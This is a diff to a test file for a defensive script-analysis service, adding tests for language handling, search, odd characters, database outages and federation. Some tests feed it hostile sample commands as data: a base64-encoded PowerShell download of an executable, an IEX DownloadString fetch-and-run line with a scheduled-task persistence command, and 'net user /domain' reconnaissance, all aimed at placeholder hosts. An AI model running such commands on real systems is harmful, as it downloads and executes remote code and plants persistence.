@@ -1,5 +1,6 @@
 import { createHash, randomUUID } from 'node:crypto';
 import { gzipSync } from 'node:zlib';
+import pg from 'pg';
 import { Topic, type Envelope, type ScriptSubmitted } from '@attest/contracts';
 import { eventually } from '@attest/testing';
 import { startScriptAnalyzer, type Service } from './service.js';
@@ -49,7 +50,7 @@ describe('the script analyzer', () => {
     expect(analysis.indicators.map(({ value }) => value)).toContain('http://a.example.test/p.ps1');
     for (const statement of analysis.card?.statements ?? []) expect(statement.facts.length).toBeGreaterThan(0);
     await service.ask('mutation ($text: String) { submitScript(text: $text) { sha256 } }', { text });
-    await eventually('the announcement', () => service.analyzed.some(({ key }) => key === hashOf(text)));
+    await eventually('the announcement', () => service.analyzed.some(({ key }) => key === hashOf(text)) && service.cards.some(({ key }) => key === hashOf(text)));
     expect(service.analyzed.filter(({ key }) => key === hashOf(text))).toHaveLength(1);
     expect(service.cards.filter(({ key }) => key === hashOf(text))).toHaveLength(1);
   });
@@ -76,6 +77,37 @@ describe('the script analyzer', () => {
     expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'BASH' });
   });
 
+  it('keeps the language somebody named until another is asked for, or finding out is', async () => {
+    const text = 'echo three & echo four';
+    const again = (rest: string): Promise<unknown> => service.ask(`mutation ($sha256: ID!) { analyzeScriptAgain(sha256: $sha256${rest}) { sha256 } }`, { sha256: hashOf(text) });
+    const version = (wanted: number): Promise<void> => eventually(`version ${wanted}`, async () => (await analysisOf(hashOf(text))).card?.version === wanted);
+    await service.ask('mutation ($text: String) { submitScript(text: $text, language: VBSCRIPT, fileName: "x.cmd") { sha256 } }', { text });
+    await version(1);
+    await again('');
+    await version(2);
+    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'VBSCRIPT' });
+    await again(', language: UNKNOWN');
+    await version(3);
+    expect(await analysisOf(hashOf(text))).toMatchObject({ language: 'BATCH' });
+  });
+
+  it('finds scripts by their text, decoded text, indicators (defanged too), file name and hash, and by time', async () => {
+    const inner = 'Invoke-WebRequest http://needle-host.example.test/a?x=100%_ -OutFile C:\\Haystack\\b.exe';
+    const text = `powershell -enc ${Buffer.from(inner, 'utf16le').toString('base64')}`;
+    await service.ask('mutation ($text: String) { submitScript(text: $text, fileName: "Straw.ps1") { sha256 } }', { text });
+    await analysisOf(hashOf(text));
+    const found = async (filter: Record<string, unknown>): Promise<boolean> => {
+      const { data, errors } = await service.ask<{ scriptAnalyses: { nodes: { sha256: string }[] } }>('query ($filter: ScriptFilterInput) { scriptAnalyses(first: 100, filter: $filter) { nodes { sha256 } } }', { filter });
+      expect(errors).toBeUndefined();
+      return data?.scriptAnalyses.nodes.some(({ sha256 }) => sha256 === hashOf(text)) ?? false;
+    };
+    for (const wanted of ['powershell -ENC', 'haystack', 'hxxp://needle-host[.]example[.]test', 'straw.ps1', hashOf(text).slice(0, 20).toUpperCase(), 'x=100%_']) expect([wanted, await found({ text: wanted })]).toEqual([wanted, true]);
+    for (const wanted of ['needle%host', 'x=100__', "'; --", 'needle\0host']) expect([wanted, await found({ text: wanted })]).toEqual([wanted, false]);
+    const [before, after] = [new Date(Date.now() - 60_000).toISOString(), new Date(Date.now() + 60_000).toISOString()];
+    expect([await found({ submittedAfter: before }), await found({ submittedAfter: after }), await found({ submittedBefore: before }), await found({ submittedBefore: after, text: 'needle' })]).toEqual([true, false, false, true]);
+    expect(await found({ incidentId: '1\u0000' })).toBe(false);
+  });
+
   it('lists by verdict, language, technique and incident, a page at a time', async () => {
     await service.publish(Array.from({ length: 5 }, (_, i) => submitted(`ping -n ${i + 1} c.example.test`, '950')));
     const list = async (filter: string, rest = 'first: 100'): Promise<{ totalCount: number; nodes: { sha256: string; techniqueIds: string[] }[]; pageInfo: { hasNextPage: boolean; endCursor: string } }> => (await service.ask<{ scriptAnalyses: never }>(`{ scriptAnalyses(${rest}, filter: {${filter}}) { totalCount nodes { sha256 techniqueIds } pageInfo { hasNextPage endCursor } } }`)).data?.scriptAnalyses as never;
@@ -99,6 +131,34 @@ describe('the script analyzer', () => {
     const { errors } = await service.ask(query);
     expect(errors?.[0]).toMatchObject({ extensions: { code } });
     expect(errors?.[0]?.message).toMatch(/\.$/);
+  });
+
+  it('stores what quotes a NUL or half a character', async () => {
+    for (const odd of ['\0', '\ud83d']) {
+      const text = `IEX (New-Object Net.WebClient).DownloadString("http://odd${odd}host.example.test/p.ps1"); schtasks /create /tn "odd${odd}task" /tr C:\\x.exe /sc onlogon`;
+      const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
+      const { data, errors } = await service.ask<{ submitScript: { sha256: string } }>('mutation ($base64: String) { submitScript(base64: $base64, fileName: "a\\u0000b.ps1") { sha256 } }', { base64: bytes.toString('base64') });
+      expect(errors).toBeUndefined();
+      expect((await analysisOf(data?.submitScript.sha256 ?? '')).card?.statements.length).toBeGreaterThan(0);
+    }
+  });
+
+  it('loses no script while its tables cannot be read', async () => {
+    const admin = new pg.Client({ connectionString: service.databaseUrl });
+    await admin.connect();
+    await admin.query('ALTER TABLE script_analyzer.script RENAME TO script_away');
+    const text = 'net user /domain & echo lost-and-found';
+    await service.publish([submitted(text, '77')]);
+    await new Promise((done) => setTimeout(done, 600));
+    await admin.query('ALTER TABLE script_analyzer.script_away RENAME TO script');
+    await admin.end();
+    expect(await analysisOf(hashOf(text))).toMatchObject({ incidentIds: ['77'], card: { version: 1 } });
+  });
+
+  it('names a script of evidence that has not arrived', async () => {
+    const { data, errors } = await service.ask<{ _entities: unknown[] }>('query ($of: [_Any!]!) { _entities(representations: $of) { ... on ScriptAnalysis { sha256 analyzed submittedAt facts { id } card { title } } } }', { of: [{ __typename: 'ScriptAnalysis', sha256: 'f'.repeat(64) }] });
+    expect(errors).toBeUndefined();
+    expect(data?._entities).toEqual([{ sha256: 'f'.repeat(64), analyzed: false, submittedAt: null, facts: [], card: null }]);
   });
 
   it('keeps tenants apart', async () => {
